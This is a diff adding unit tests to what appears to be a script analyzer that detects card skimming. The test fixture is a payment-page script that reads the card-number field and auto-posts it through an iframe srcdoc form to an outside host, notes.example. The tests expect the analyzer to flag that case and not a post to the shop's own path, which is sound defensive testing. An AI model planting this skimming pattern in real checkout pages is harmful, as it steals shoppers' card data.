@@ -391,3 +391,37 @@ describe('the value of a stored record or an iterator step is no typed value', (
     expect(taintOf('form.elements[0].value')).toContain('value')
   })
 })
+
+describe("a frame's document written as markup (srcdoc)", () => {
+  const page = (action: string, how: string): string => `
+    function doc(v) {
+      var h = '<form method="POST" action="${action}">'
+      h += '<input type="hidden" name="n" value="' + v + '">'
+      return h + '</form><script>document.forms[0].submit()<\\/script>'
+    }
+    document.querySelector('#pay').addEventListener('click', function () {
+      var f = document.createElement('iframe')
+      ${how}
+      document.body.appendChild(f)
+    })`
+  const card = "doc(document.querySelector('#cc_number').value)"
+
+  it('a form in it posting typed card data to another host is a send there', () => {
+    for (const how of [`f.srcdoc = ${card}`, `f.setAttribute('srcdoc', ${card})`]) {
+      const messages = analyzeScript(page('https://notes.example/api', how)).findings.map(
+        (f) => f.message,
+      )
+      expect(messages).toContain('reads card fields and sends them out via form')
+      expect(messages.join('\n')).toContain('https://notes.example/api')
+    }
+  })
+
+  it("a form posting to the shop's own path is no send to another host", () => {
+    const v = analyzeScript(page('/checkout/notes', `f.srcdoc = ${card}`), {
+      pageUrl: 'https://shop.example/checkout',
+    })
+    expect(v.findings.map((f) => f.message)).not.toContain(
+      'reads card fields and sends them out via form',
+    )
+  })
+})
